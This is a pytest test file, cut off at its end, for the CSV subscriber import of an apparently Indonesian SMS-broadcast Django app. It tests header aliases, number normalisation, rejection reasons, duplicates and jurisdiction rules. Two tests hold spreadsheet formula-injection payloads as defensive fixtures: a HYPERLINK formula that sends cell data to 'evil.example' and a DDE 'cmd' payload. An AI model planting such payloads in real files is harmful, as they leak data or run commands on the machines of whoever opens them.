"""Subscriber import: accepted file forms, every rejection reason, upserts, resuming, uploads and the command."""

import csv
import io
import os
import threading
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import InterfaceError, OperationalError, transaction
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.html import escape

from operators.models import Operator
from smsblast import importer, services
from smsblast.models import AuditEvent, Role, Subscriber, SubscriberImport
from smsblast.tasks import subscriber_import_run as import_task
from tests.concurrency import skip_unless_postgresql, start_in_thread, wait_until_blocked_on_a_lock
from tests.smsblast.factories import AreaFactory, SubscriberFactory, UserFactory


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def areas(db):
    for code, name in [
        ("35", "Jawa Timur"),
        ("35.05", "Kabupaten Blitar"),
        ("35.05.01", "Wonodadi"),
        ("35.05.01.2001", "Kolomayan"),
        ("35.05.02", "Udanawu"),
    ]:
        AreaFactory(code=code, name=name)


@pytest.fixture
def operators(db):
    return {
        "telkomsel": Operator.objects.create(name="Telkomsel", slug="telkomsel", prefixes=["62812", "62813"]),
        "indosat": Operator.objects.create(name="Indosat", slug="indosat", prefixes=["62856", "62857"]),
    }


def run_import(path, **kwargs) -> SubscriberImport:
    job = services.subscriber_import_create_from_path(path=path, user=None)
    return services.subscriber_import_run(subscriber_import=job, **kwargs)


def write(tmp_path, text: str, *, name: str = "subscribers.csv", encoding: str = "utf-8"):
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def rejected_rows(job: SubscriberImport) -> list[tuple[int, str]]:
    return [(row.line, row.reason) for row in job.rejections.order_by("line")]


# --- accepted forms ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "delimiter"),
    [("utf-8", ","), ("utf-8-sig", ","), ("utf-8", ";"), ("utf-8-sig", ";"), ("utf-8", "\t")],
    ids=["comma", "comma-bom", "semicolon", "semicolon-bom", "tab"],
)
def test_file_with_or_without_bom_and_any_delimiter_is_imported(tmp_path, areas, operators, encoding, delimiter):
    rows = [["msisdn", "kode_wilayah", "nama", "bahasa"], ["0812-3456-7890", "35.05.01", "Siti, Rahayu", "id"]]
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    job = run_import(write(tmp_path, buffer.getvalue(), encoding=encoding))

    assert (job.state, job.created, job.rejected) == ("completed", 1, 0)
    subscriber = Subscriber.objects.get()
    assert (subscriber.msisdn, subscriber.area_id, subscriber.name, subscriber.language) == (
        "+6281234567890",
        "35.05.01",
        "Siti, Rahayu",
        "id",
    )
    assert subscriber.operator == operators["telkomsel"]


@pytest.mark.parametrize(
    "number_header",
    [
        "msisdn",
        "nomor",
        "no_hp",
        "hp",
        "phone",
        "No. HP",
        "Nomor HP",
        "MSISDN",
        "no-hp",
        "Nomor Telepon",
        "No. Telp.",
        "Telp",
        "No Handphone",
        "Nomor Ponsel",
    ],
)
def test_every_number_header_alias_is_recognised(tmp_path, areas, number_header):
    job = run_import(write(tmp_path, f"{number_header}\n081234567890\n"))

    assert job.created == 1
    assert Subscriber.objects.get().msisdn == "+6281234567890"


@pytest.mark.parametrize(
    "number_header",
    ["No. HP/WA", "Nomor Telepon/HP", "Telp/HP", "Nomor HP (aktif)", "No. WA", "WhatsApp", "Nomor WhatsApp"],
)
def test_a_number_header_naming_two_kinds_of_number_or_carrying_a_note_is_recognised(tmp_path, areas, number_header):
    job = run_import(write(tmp_path, f"Nama;{number_header};Kode Wilayah\nSiti;081234567890;35.05.01\n"))

    assert (job.state, job.created) == ("completed", 1)
    subscriber = Subscriber.objects.get()
    assert (subscriber.msisdn, subscriber.name, subscriber.area_id) == ("+6281234567890", "Siti", "35.05.01")


@pytest.mark.parametrize(
    "number_header",
    [
        "No. Telpon",
        "Nomor Telpon",
        "Telpon",
        "No. Tlp",
        "Tlp/HP",
        "Nomor Seluler",
        "No. Telepon Seluler",
        "No. Kontak",
        "Mobile Number",
        "Mobile Phone",
        "Phone No.",
        "Telephone",
        "Nomor HP *",
        "No. HP:",
    ],
)
def test_a_number_column_headed_as_spreadsheets_often_head_it_is_recognised(tmp_path, areas, number_header):
    """Everyday spellings (Telpon, Tlp), other words for a mobile (Seluler, Kontak) and a form's required mark."""
    job = run_import(write(tmp_path, f"No;Nama;{number_header}\n1;Siti;081234567890\n"))

    assert (job.state, job.created) == ("completed", 1)
    assert Subscriber.objects.get().msisdn == "+6281234567890"


@pytest.mark.parametrize(
    ("header", "row", "area"),
    [
        ("No HP;Kode Desa", "0812 3456 7890;35.05.01.2001", "35.05.01.2001"),
        ("No HP;Kode Kelurahan", "0812 3456 7890;3505012001", "35.05.01.2001"),
        ("No HP;Kode Kecamatan", "0812 3456 7890;35.05.02", "35.05.02"),
        ("No HP;Kode Kemendagri", "0812 3456 7890;35.05", "35.05"),
        ("No HP;Kode Wil.", "0812 3456 7890;35.05.01", "35.05.01"),
        # The village's code homes the subscriber more closely than the district's beside it.
        ("No HP;Kode Kecamatan;Kode Desa", "0812 3456 7890;35.05.01;35.05.01.2001", "35.05.01.2001"),
    ],
)
def test_an_area_column_headed_by_the_level_of_its_codes_homes_the_subscriber(tmp_path, areas, header, row, area):
    """A column left unrecognised would import every number without a home, out of reach of area campaigns."""
    job = run_import(write(tmp_path, f"{header}\n{row}\n"))

    assert (job.created, job.rejected) == (1, 0)
    assert Subscriber.objects.get().area_id == area


@pytest.mark.parametrize(
    ("telephone_header", "mobile_header"),
    [
        ("No. Telp", "No. HP"),
        ("Telepon", "Handphone"),
        ("Phone", "Mobile"),
        ("No. Telp", "Telp/HP"),
        ("No. Telepon", "No. WhatsApp"),
    ],
)
def test_of_a_telephone_and_a_mobile_column_the_mobile_one_is_imported(
    tmp_path, areas, telephone_header, mobile_header
):
    """Lists often give an office or home line beside the mobile: only the mobile takes SMS."""
    text = f"Nama;{telephone_header};{mobile_header}\nSiti;(0342) 801234;0812 3456 7890\n"
    job = run_import(write(tmp_path, text))

    assert (job.state, job.created, job.rejected) == ("completed", 1, 0)
    assert Subscriber.objects.get().msisdn == "+6281234567890"


@pytest.mark.parametrize(
    ("area_header", "name_header", "language_header"),
    [("kode_wilayah", "nama", "bahasa"), ("area_code", "name", "language"), ("Kode Wilayah", "Nama", "Bahasa")],
)
def test_area_name_and_language_headers_in_indonesian_or_english(
    tmp_path, areas, area_header, name_header, language_header
):
    text = f"phone;{area_header};{name_header};{language_header}\n+62 812 3456 7890;35.05.02;Budi;English\n"
    job = run_import(write(tmp_path, text))

    assert job.created == 1
    subscriber = Subscriber.objects.get()
    assert (subscriber.area_id, subscriber.name, subscriber.language) == ("35.05.02", "Budi", "en")


def test_mixed_number_forms_of_one_subscriber_count_once(tmp_path, areas):
    forms = ["081234567890", "+62 812-3456-7890", "6281234567890", "81234567890", "0812.3456.7890", "(0812) 34567890"]
    job = run_import(write(tmp_path, "nomor\n" + "\n".join(forms) + "\n"))

    assert (job.rows_read, job.created, job.duplicates, job.rejected) == (6, 1, 5, 0)
    assert list(Subscriber.objects.values_list("msisdn", flat=True)) == ["+6281234567890"]


def test_undotted_area_codes_and_coordinates_are_read(tmp_path, areas):
    text = 'hp,kode,lat,lng\n081234567890,3505012001,-8.10,112.16\n081234567891,,"-8,2","112,2"\n'
    job = run_import(write(tmp_path, text))

    assert job.created == 2
    first, second = Subscriber.objects.order_by("msisdn")
    assert (first.area_id, first.latitude, first.longitude) == ("35.05.01.2001", -8.10, 112.16)
    assert (second.area_id, second.latitude, second.longitude) == (None, -8.2, 112.2)


def test_blank_lines_are_not_rows(tmp_path, areas):
    job = run_import(write(tmp_path, "msisdn\n\n081234567890\n\n081234567891\n"))

    assert (job.rows_read, job.created, job.rejected) == (2, 2, 0)


# --- rejections -------------------------------------------------------------------------------------------------


def test_a_file_with_old_mac_line_endings_is_imported_by_line_and_its_row_estimate_shows_progress(
    tmp_path, areas, monkeypatch
):
    monkeypatch.setattr(services, "IMPORT_CHUNK", 2)
    text = 'nomor,kode_wilayah,nama\r081234567890,35.05.01,"Bu\rSri"\r081234567891,99.99,x\r081234567892,35.05.01,y\r'
    progress = []
    job = run_import(write(tmp_path, text), progress=progress.append)

    assert (job.state, job.rows_read, job.created) == ("completed", 3, 2)
    assert rejected_rows(job) == [(4, "unknown_area")]
    assert "of ~4 rows" in progress[0]  # lines counted as the reader counts them, header aside


def test_lines_of_spaces_before_the_header_or_between_rows_are_blank_lines(tmp_path, areas):
    job = run_import(write(tmp_path, "   \n\t\nmsisdn;nama\n081234567890;Siti\n ; \n081234567891;Budi\n"))

    assert (job.rows_read, job.created, job.rejected) == (2, 2, 0)


def test_blank_lines_before_the_header_do_not_make_the_header_a_row(tmp_path, areas):
    job = run_import(write(tmp_path, "\n\r\nmsisdn;nama\n081234567890;Siti\n"))

    assert (job.rows_read, job.created, job.rejected) == (1, 1, 0)


def test_title_lines_a_spreadsheet_has_above_the_header_are_skipped(api_client_for, officer, areas):
    """Lists kept in a spreadsheet often start with a title and a blank row; saved as CSV, they come along."""
    text = (
        "DAFTAR PENERIMA SMS KABUPATEN BLITAR;;;\r\n"  # line 1
        "Dinas Kominfo, Mei 2021;;;\r\n"  # 2
        ";;;\r\n"  # 3
        "No;Nama;No. HP;Kode Wilayah\r\n"  # 4, the header
        "1;Siti;0812 3456 7890;35.05.01\r\n"  # 5
        "2;Budi;nomor saya;35.05.01\r\n"  # 6
    )
    client = api_client_for(officer)
    response = upload(client, text.encode())
    assert response.status_code == 202, response.content
    import_task(response.json()["id"])

    job = SubscriberImport.objects.get()
    assert (job.state, job.rows_read, job.created, rejected_rows(job)) == ("completed", 2, 1, [(6, "invalid")])
    assert Subscriber.objects.get().name == "Siti"


def test_an_excel_separator_line_above_the_header_is_skipped(tmp_path, areas):
    job = run_import(write(tmp_path, "sep=;\nmsisdn;nama\n081234567890;Siti, S.Pd.\n"))

    assert (job.state, job.rows_read, job.created, job.rejected) == ("completed", 1, 1, 0)
    assert Subscriber.objects.get().name == "Siti, S.Pd."


def test_every_rejection_reason_is_reported_with_its_line(tmp_path, areas):
    text = (
        "msisdn,kode_wilayah,bahasa,latitude,longitude\n"  # line 1
        "081234567890,35.05.01,id,,\n"  # 2 accepted
        ",35.05.01,id,,\n"  # 3 missing_number
        "nomor saya,35.05.01,id,,\n"  # 4 invalid
        "0215551234,35.05.01,id,,\n"  # 5 not_mobile (Jakarta landline)
        "+14155552671,35.05.01,id,,\n"  # 6 not_indonesian
        "0812345,35.05.01,id,,\n"  # 7 too_short
        "08123456789012345,35.05.01,id,,\n"  # 8 too_long
        "081234567891,99.99.99,id,,\n"  # 9 unknown_area
        "081234567892,35.05.01,jawa,,\n"  # 10 invalid_language
        "081234567893,35.05.01,id,112.1,-8.1\n"  # 11 invalid_coordinates (swapped)
        "081234567894\n"  # 12 accepted: short row, only the number
    )
    job = run_import(write(tmp_path, text))

    assert (job.rows_read, job.created, job.rejected) == (11, 2, 9)
    assert rejected_rows(job) == [
        (3, "missing_number"),
        (4, "invalid"),
        (5, "not_mobile"),
        (6, "not_indonesian"),
        (7, "too_short"),
        (8, "too_long"),
        (9, "unknown_area"),
        (10, "invalid_language"),
        (11, "invalid_coordinates"),
    ]
    assert job.rejected_by_reason == {reason: 1 for _, reason in rejected_rows(job)}
    assert job.rejections.get(line=9).raw == "081234567891,99.99.99,id,,"


def test_a_number_a_spreadsheet_wrote_in_scientific_notation_is_rejected_saying_so_and_how_to_save_it(
    tmp_path, areas, client, officer
):
    """Excel shows a number of 12 digits or more as 6.28123E+12 and saves it so: its last digits are gone."""
    text = (
        "\ufeffNo;Nama;No. HP\r\n"  # line 1, as a spreadsheet set to Indonesian saves it
        "1;Siti;81234567890\r\n"  # 2 accepted: eleven digits are written whole
        "2;Budi;6,28123E+12\r\n"  # 3
        "3;Ani;8.12346E+11\r\n"  # 4
        "4;Dewi;6.28E12\r\n"  # 5
        "5;Rina;nomor saya\r\n"  # 6 not a number at all
    )
    job = run_import(write(tmp_path, text))

    assert (job.created, job.rejected) == (1, 4)
    assert rejected_rows(job) == [
        (3, "scientific_notation"),
        (4, "scientific_notation"),
        (5, "scientific_notation"),
        (6, "invalid"),
    ]
    client.force_login(officer)
    page = client.get(reverse("subscriber_import", args=[job.pk])).content.decode()
    assert "notasi ilmiah" in page and "Angka tanpa desimal" in page


def test_an_area_code_a_spreadsheet_read_as_a_number_is_rejected_saying_so_and_how_to_save_it(
    tmp_path, areas, client, officer
):
    """Excel set to English reads 35.10 as the number 35.1 and saves it so: which regency was meant is lost."""
    text = (
        "msisdn,kode_wilayah\n"  # line 1
        "081234567890,35.1\n"  # 2: 35.10
        "081234567891,35.05\n"  # 3 accepted
        "081234567892,35.7\n"  # 4: 35.70
        "081234567893,35.99\n"  # 5 a code the area table lacks
    )
    job = run_import(write(tmp_path, text))

    assert (job.created, job.rejected) == (1, 3)
    assert rejected_rows(job) == [(2, "area_code_as_number"), (4, "area_code_as_number"), (5, "unknown_area")]
    client.force_login(officer)
    page = client.get(reverse("subscriber_import", args=[job.pk])).content.decode()
    assert "35.10 menjadi 35.1" in page and "format kolom wilayah sebagai Teks" in page


def test_a_quote_never_closed_is_reported_by_line_and_the_rows_after_it_are_imported(tmp_path, areas):
    text = (
        "nomor,kode_wilayah,nama\n"  # line 1
        '081234567890,35.05.01,"Pak Budi\n'  # 2 malformed: the quote is never closed
        '081234567891,35.05.01,"Bu Sri"\n'  # 3 accepted
        '081234567892,35.05.01,"Jl. Merdeka\n1 RT 2"\n'  # 4-5 accepted: a quoted line break
        "081234567893,35.05.01,Pak Joko\n"  # 6 accepted
    )
    job = run_import(write(tmp_path, text))

    assert (job.state, job.rows_read, job.created, job.rejected) == ("completed", 4, 3, 1)
    assert rejected_rows(job) == [(2, "malformed_row")]
    assert job.rejections.get().raw == '081234567890,35.05.01,"Pak Budi'
    assert Subscriber.objects.get(msisdn="+6281234567891").name == "Bu Sri"
    assert Subscriber.objects.get(msisdn="+6281234567892").name == "Jl. Merdeka\n1 RT 2"
    assert not Subscriber.objects.filter(msisdn="+6281234567890").exists()


def test_a_rejected_row_with_quoted_line_breaks_is_reported_at_the_line_where_it_starts(tmp_path, areas):
    text = (
        "nomor,kode_wilayah,nama\r\n"  # line 1
        '081234567891,35.05.01,"Bu\r\nSri"\r\n'  # 2-3 accepted
        '0812,35.05.01,"Jl. Merdeka\r\nRT 1\r\nRW 2"\r\n'  # 4-6 too_short: the number is on line 4
        '081234567892,99.99,"Pak\nJoko"\r\n'  # 7-8 unknown_area
        "081234567893,35.05.01,Bu Ani\r\n"  # 9 accepted
    )
    job = run_import(write(tmp_path, text))

    assert (job.state, job.rows_read, job.created) == ("completed", 4, 2)
    assert rejected_rows(job) == [(4, "too_short"), (7, "unknown_area")]
    with open(job.rejected_path, newline="", encoding="utf-8-sig") as handle:
        assert [(row["line"], row["reason"]) for row in csv.DictReader(handle)] == [
            ("4", "too_short"),
            ("7", "unknown_area"),
        ]


def test_a_huge_cell_or_a_nul_past_the_sniffed_start_rejects_only_its_line(tmp_path, areas):
    padding = "".join(f"0812{i:08d},35.05.01,Nama {i}\n" for i in range(1, 4001))  # past the first 64 KB
    text = (
        "nomor,kode_wilayah,nama\n"
        + padding
        + "081299999990,35.05.01,"
        + "x" * 200_000
        + "\n"  # line 4002
        + "081299999991,35.05.01,Bu\x00di\n"  # line 4003
        + "081299999992,35.05.01,Pak Joko\n"
    )
    job = run_import(write(tmp_path, text))

    assert (job.state, job.created, job.rejected) == ("completed", 4001, 2)
    assert rejected_rows(job) == [(4002, "malformed_row"), (4003, "malformed_row")]
    assert job.rejections.get(line=4003).raw == "081299999991,35.05.01,Bu\ufffddi"


def test_a_line_longer_than_the_line_limit_is_rejected_by_line_without_being_read_whole(tmp_path, areas, monkeypatch):
    monkeypatch.setattr(importer, "MAX_LINE_CHARS", 100, raising=False)
    text = (
        "nomor,kode_wilayah,nama\n"
        "081234567890,35.05.01,Bu Sri\n"  # line 2
        "081234567891,35.05.01," + ",".join(["x" * 30] * 10) + "\n"  # 3: every cell is short, the line is not
        "081234567892,35.05.01,Pak Joko\n"  # 4
    )
    job = run_import(write(tmp_path, text))

    assert (job.state, job.rows_read, job.created) == ("completed", 3, 2)
    assert rejected_rows(job) == [(3, "malformed_row")]
    assert len(job.rejections.get().raw) <= 101
    assert not Subscriber.objects.filter(msisdn="+6281234567891").exists()


def test_a_byte_that_is_not_utf8_past_the_sniffed_start_rejects_its_line_instead_of_garbling_it(tmp_path, areas):
    padding = "".join(f"0812{i:08d},35.05.01,Nama {i}\n" for i in range(1, 4001)).encode()  # past the first 64 KB
    path = tmp_path / "latin1.csv"
    path.write_bytes(b"nomor,kode_wilayah,nama\n" + padding + b"081299999991,35.05.01,Jos\xe9\n")
    job = run_import(path)

    assert (job.state, job.created, job.rejected) == ("completed", 4000, 1)
    assert rejected_rows(job) == [(4002, "malformed_row")]
    assert not Subscriber.objects.filter(msisdn="+6281299999991").exists()


def test_a_quote_never_closed_before_the_end_of_the_file_rejects_its_line_alone(tmp_path, areas):
    text = (
        "nomor,kode_wilayah,nama\n"  # line 1
        "081234567891,35.05.01,Bu Sri\n"  # 2 accepted
        '081234567890,35.05.01,"Pak Budi\n'  # 3 malformed: no quote follows it
        "081234567892,35.05.01,Pak Joko\n"  # 4 accepted
        "081234567893,35.05.01,Bu Ani\n"  # 5 accepted
    )
    job = run_import(write(tmp_path, text))

    assert (job.state, job.rows_read, job.created, job.rejected) == ("completed", 4, 3, 1)
    assert rejected_rows(job) == [(3, "malformed_row")]
    assert Subscriber.objects.get(msisdn="+6281234567893").name == "Bu Ani"


def test_a_lone_quote_inside_an_unquoted_cell_is_part_of_the_name_and_the_next_line_its_own_row(tmp_path, areas):
    text = (
        "nomor,kode_wilayah,nama\n"
        '081234567890,35.05.01,Toko 5" Pak Budi\n'  # line 2: the quote opens nothing
        "081234567891,35.05.01,Bu Sri\n"  # 3
    )
    job = run_import(write(tmp_path, text))

    assert (job.state, job.rows_read, job.created, job.rejected) == ("completed", 2, 2, 0)
    assert Subscriber.objects.get(msisdn="+6281234567890").name == 'Toko 5" Pak Budi'
    assert Subscriber.objects.get(msisdn="+6281234567891").name == "Bu Sri"


def test_a_character_cut_in_two_by_the_end_of_the_sampled_start_does_not_refuse_the_file(tmp_path, areas):
    rows = [b"nomor,kode_wilayah,nama\n"] + [f"0812{i:08d},35.05.01,Nama {i}\n".encode() for i in range(1, 2001)]
    start = b"".join(rows) + b"081299999990,35.05.01,"
    # Spaces before the name (trimmed on import) put its "é", two bytes in UTF-8, on the sample's last byte.
    name = " " * (importer.SNIFF_BYTES - 1 - len(start) - len("Jos")) + "José"
    path = tmp_path / "names.csv"
    path.write_bytes(start + name.encode() + b"\n081299999991,35.05.01,Bu Sri\n")
    assert path.read_bytes()[importer.SNIFF_BYTES - 1 : importer.SNIFF_BYTES + 1] == "é".encode()
    job = run_import(path)

    assert (job.state, job.created, job.rejected) == ("completed", 2002, 0)
    assert Subscriber.objects.get(msisdn="+6281299999990").name == "José"


def test_rejected_file_lists_every_rejection_while_the_database_keeps_the_first(tmp_path, areas, monkeypatch):
    monkeypatch.setattr(services, "KEPT_REJECTIONS", 3)
    job = run_import(write(tmp_path, "msisdn\n" + "\n".join(f"bad{i}" for i in range(5)) + "\n081234567890\n"))

    assert job.rejected == 5
    assert [line for line, _ in rejected_rows(job)] == [2, 3, 4]
    with open(job.rejected_path, encoding="utf-8-sig", newline="") as handle:
        listed = list(csv.reader(handle))
    assert listed[0] == ["line", "reason", "raw"]
    assert [row[:2] for row in listed[1:]] == [[str(line), "invalid"] for line in range(2, 7)]


def test_rejected_file_keeps_a_row_written_as_a_formula_from_running_in_a_spreadsheet(tmp_path, areas):
    rows = ['=HYPERLINK("http://evil.example/?"&A1)', "+6281", "-1+2", "@SUM(1)", "\tx", "bad"]
    job = run_import(write(tmp_path, "msisdn\n" + "\n".join(rows) + "\n"))

    with open(job.rejected_path, encoding="utf-8-sig", newline="") as handle:
        listed = [row[2] for row in list(csv.reader(handle))[1:]]
    assert listed == ["'" + row if row != "bad" else row for row in rows]
    # The database keeps what the file said; only the download is made safe to open.
    assert job.rejections.order_by("line").first().raw == rows[0]


@pytest.mark.parametrize(
    "separator",
    [
        # Excel set for Indonesia separates a CSV's cells by ";": the raw row opens as cells again, each checked.
        ";",
        # The raw row keeps its tabs unquoted; a spreadsheet splitting at tabs (LibreOffice's default import, a
        # paste) opens it as cells again, each checked.
        "\t",
    ],
    ids=["semicolon", "tab"],
)
def test_rejected_file_keeps_a_later_cell_of_a_separated_upload_from_running_as_a_formula(tmp_path, areas, separator):
    raw = separator.join(["bad", "35.05.01", "=cmd|' /C calc'!A0", "x"])
    job = run_import(write(tmp_path, separator.join(["nomor", "kode_wilayah", "nama"]) + "\n" + raw + "\n"))

    with open(job.rejected_path, encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.reader(handle))[1:]
    assert row[2] == separator.join(["bad", "35.05.01", "'=cmd|' /C calc'!A0", "x"])
    assert job.rejections.get().raw == raw


# --- numbers repeated in the file -------------------------------------------------------------------------------

REPEATS = (
    "msisdn\n"  # line 1
    "081234567890\n"  # 2
    "081234567891\n"  # 3
    "+62 812-3456-7890\n"  # 4 same number as line 2
    "12\n"  # 5 too_short
    "6281234567891\n"  # 6 same number as line 3
    "0812.3456.7890\n"  # 7 same number as line 2
)


def test_each_repeated_number_is_listed_by_its_line_and_the_line_it_first_appeared_on(tmp_path, areas, capsys):
    path = write(tmp_path, REPEATS)
    call_command("import_subscribers", str(path))

    job = SubscriberImport.objects.get()
    assert (job.created, job.duplicates, job.rejected, job.rejected_by_reason) == (2, 3, 1, {"too_short": 1})
    assert [(row.line, row.reason, row.first_line) for row in job.rejections.order_by("line")] == [
        (4, "duplicate", 2),
        (5, "too_short", None),
        (6, "duplicate", 3),
        (7, "duplicate", 2),
    ]
    with open(job.rejected_path, encoding="utf-8-sig", newline="") as handle:
        assert list(csv.reader(handle)) == [
            ["line", "reason", "raw"],
            ["4", "duplicate of line 2", "'+62 812-3456-7890"],
            ["5", "too_short", "12"],
            ["6", "duplicate of line 3", "6281234567891"],
            ["7", "duplicate of line 2", "0812.3456.7890"],
        ]
    assert f"Rejected and repeated rows: {job.rejected_path}" in capsys.readouterr().out


def test_the_api_and_the_page_list_each_repeated_number_beside_the_line_it_first_appeared_on(
    tmp_path, areas, api_client_for, client, officer
):
    job = run_import(write(tmp_path, REPEATS))

    detail = api_client_for(officer).get(f"/api/v1/subscribers/imports/{job.pk}/").json()
    assert detail["rejected_rows"] == [
        {"line": 4, "reason": "duplicate", "raw": "+62 812-3456-7890", "first_line": 2},
        {"line": 5, "reason": "too_short", "raw": "12"},
        {"line": 6, "reason": "duplicate", "raw": "6281234567891", "first_line": 3},
        {"line": 7, "reason": "duplicate", "raw": "0812.3456.7890", "first_line": 2},
    ]
    client.force_login(officer)
    page = client.get(reverse("subscriber_import", args=[job.pk])).content.decode()
    assert page.count("nomor yang sama dengan baris 2") == 2 and page.count("nomor yang sama dengan baris 3") == 1


def test_repeated_numbers_past_the_kept_rows_are_counted_in_the_shown_note_and_all_listed_in_the_file(
    tmp_path, areas, monkeypatch, client, officer
):
    monkeypatch.setattr(services, "KEPT_REJECTIONS", 3)
    job = run_import(write(tmp_path, "msisdn\n081234567890\n" + "0812-3456-7890\n" * 5 + "bad\n"))

    assert (job.duplicates, job.rejected) == (5, 1)
    assert [(row.line, row.first_line) for row in job.rejections.order_by("line")] == [(3, 2), (4, 2), (5, 2)]
    with open(job.rejected_path, encoding="utf-8-sig", newline="") as handle:
        assert [row[:2] for row in list(csv.reader(handle))[1:]] == [
            *([str(line), "duplicate of line 2"] for line in range(3, 8)),
            ["8", "invalid"],
        ]
    client.force_login(officer)
    page = client.get(reverse("subscriber_import", args=[job.pk])).content.decode()
    assert "Di sini tampil 3 pertama dari 6." in page


# Outside a test transaction, so on PostgreSQL the chunks commit on the import's writer thread.
@pytest.mark.django_db(transaction=True)
def test_a_resumed_import_lists_each_repeated_number_once_with_the_line_it_first_appeared_on(
    tmp_path, areas, monkeypatch
):
    monkeypatch.setattr(services, "IMPORT_CHUNK", 3)
    numbers = [f"08123456{i:04d}" for i in range(6)]
    # Line 4 repeats line 2 within the first chunk; line 9 repeats line 3 from the chunk the failure leaves saved.
    lines = ["msisdn", numbers[0], numbers[1], numbers[0], numbers[2], numbers[3], numbers[4], numbers[5], numbers[1]]
    monkeypatch.setattr(services._SubscriberWriter, "write", write_failing_on_second_chunk())
    failed = run_import(write(tmp_path, "\n".join(lines) + "\n"))
    assert (failed.state, failed.lines_done, failed.duplicates) == ("failed", 5, 1)

    resumed = services.subscriber_import_run(subscriber_import=failed)

    assert (resumed.state, resumed.created, resumed.duplicates) == ("completed", 6, 2)
    assert [(row.line, row.reason, row.first_line) for row in resumed.rejections.order_by("line")] == [
        (4, "duplicate", 2),
        (9, "duplicate", 3),
    ]
    with open(resumed.rejected_path, encoding="utf-8-sig", newline="") as handle:
        assert [row[:2] for row in list(csv.reader(handle))[1:]] == [
            ["4", "duplicate of line 2"],
            ["9", "duplicate of line 3"],
        ]


# --- upserts ----------------------------------------------------------------------------------------------------


def test_reimporting_the_same_file_updates_instead_of_duplicating(tmp_path, areas, operators):
    path = write(tmp_path, "msisdn,nama\n081234567890,Siti\n085612345678,Budi\nxx,Bad\n081234567890,Siti again\n")
    first = run_import(path)
    second = run_import(path)

    assert (first.created, first.updated, first.duplicates, first.rejected) == (2, 0, 1, 1)
    assert (second.created, second.updated, second.duplicates, second.rejected) == (0, 2, 1, 1)
    assert Subscriber.objects.count() == 2


def test_update_keeps_stored_values_for_empty_cells_and_never_undoes_an_opt_out(tmp_path, areas):
    from django.utils import timezone

    opted_out_at = timezone.now()
    SubscriberFactory(
        msisdn="+6281234567890", area_id="35.05.01", name="Siti", language="en", opted_out_at=opted_out_at
    )
    job = run_import(write(tmp_path, "msisdn,kode_wilayah,nama\n081234567890,,\n"))

    subscriber = Subscriber.objects.get()
    assert (job.created, job.updated) == (0, 1)
    assert (subscriber.area_id, subscriber.name, subscriber.language) == ("35.05.01", "Siti", "en")
    assert subscriber.opted_out_at == opted_out_at


def test_update_overwrites_given_cells(tmp_path, areas):
    SubscriberFactory(msisdn="+6281234567890", area_id="35.05.01", name="Siti", language="en")
    run_import(write(tmp_path, "msisdn,kode_wilayah,nama,bahasa\n081234567890,35.05.02,Siti Rahayu,id\n"))

    subscriber = Subscriber.objects.get()
    assert (subscriber.area_id, subscriber.name, subscriber.language) == ("35.05.02", "Siti Rahayu", "id")


# --- an officer limited to a jurisdiction -----------------------------------------------------------------------


@pytest.fixture
def blitar_officer(areas):
    AreaFactory(code="33", name="Jawa Tengah")
    AreaFactory(code="33.16", name="Kabupaten Blora")
    AreaFactory(code="33.16.01", name="Jepon")
    return UserFactory(role=Role.OFFICER, jurisdiction_id="35.05")


def run_import_by(user, path, **kwargs) -> SubscriberImport:
    job = services.subscriber_import_create_from_path(path=path, user=user)
    return services.subscriber_import_run(subscriber_import=job, **kwargs)


def test_an_import_by_a_limited_officer_rejects_by_line_every_row_it_may_not_write(tmp_path, blitar_officer):
    blora = SubscriberFactory(msisdn="+6281200000003", area_id="33.16.01", name="Warga Blora")
    province = SubscriberFactory(msisdn="+6281200000006", area_id="35", name="Warga Jatim")
    own = SubscriberFactory(msisdn="+6281200000004", area_id="35.05.02", name="Lama")
    SubscriberFactory(msisdn="+6281200000005", area_id=None)  # known only as a number, homed nowhere
    text = (
        "msisdn,kode_wilayah,nama,bahasa\n"  # line 1
        "081200000001,35.05.01,Siti,id\n"  # 2 created: within
        "081200000002,Jepon,Budi,id\n"  # 3 outside_jurisdiction: the row's area, by name
        "081200000003,35.05.01,Pindah,id\n"  # 4 homed_outside_jurisdiction: Blora's subscriber
        "081200000004,,Baru,\n"  # 5 updated: homed within, the row keeps its home
        "081200000005,35.05.02,Tanpa,id\n"  # 6 updated: homed nowhere until now, and now within
        "081200000007,,Tanpa Wilayah,id\n"  # 7 missing_area: a new number needs its home
        "081200000006,35.05.01,Naik,id\n"  # 8 homed_outside_jurisdiction: homed above the regency
        "081200000003,33.16.01,Blora,id\n"  # 9 outside_jurisdiction
        "081200000001,35.05.01,Siti lagi,id\n"  # 10 duplicate of line 2
    )
    job = run_import_by(blitar_officer, write(tmp_path, text))

    assert job.area_scope == "35.05"
    assert (job.state, job.rows_read, job.created, job.updated, job.duplicates) == ("completed", 9, 1, 2, 1)
    assert rejected_rows(job) == [
        (3, "outside_jurisdiction"),
        (4, "homed_outside_jurisdiction"),
        (7, "missing_area"),
        (8, "homed_outside_jurisdiction"),
        (9, "outside_jurisdiction"),
        (10, "duplicate"),
    ]
    assert job.rejected_by_reason == {"homed_outside_jurisdiction": 2, "missing_area": 1, "outside_jurisdiction": 2}
    with open(job.rejected_path, encoding="utf-8-sig") as handle:
        listed = [(int(line), reason) for line, reason, _raw in list(csv.reader(handle))[1:]]
    assert listed == [*rejected_rows(job)[:-1], (10, "duplicate of line 2")]
    # Nothing of another region is written, and nothing is left without a home.
    for other in (blora, province):
        before = (other.area_id, other.name)
        other.refresh_from_db()
        assert (other.area_id, other.name) == before
    own.refresh_from_db()
    assert (own.area_id, own.name) == ("35.05.02", "Baru")
    homes = dict(Subscriber.objects.values_list("msisdn", "area_id"))
    assert (homes["+6281200000001"], homes["+6281200000005"]) == ("35.05.01", "35.05.02")
    assert "+6281200000002" not in homes and "+6281200000007" not in homes


# Outside a test transaction, so on PostgreSQL the chunks commit on the import's writer thread.
@pytest.mark.django_db(transaction=True)
